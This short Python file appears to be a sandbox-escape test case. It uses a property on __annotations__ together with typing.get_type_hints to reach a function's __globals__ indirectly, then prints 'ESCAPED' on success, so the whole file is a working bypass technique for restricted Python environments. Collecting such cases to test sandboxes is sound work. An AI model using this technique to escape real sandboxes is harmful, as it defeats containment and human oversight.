# technique: get_type_hints may read the globals of the program's functions: a property reads them for us
# goal: globals
# source: own analysis: a grant without its operand
import functools
import operator
import typing
kept = []


def victim():
    pass


class Fake:
    __annotations__ = property(functools.partial(
        dict.fromkeys, map(kept.append, map(operator.attrgetter('__globals__'), [victim]))))


try:
    typing.get_type_hints(Fake())
except (TypeError, NameError):
    pass
if kept[0]['victim'] is victim:
    print('ESCAPED globals of victim')
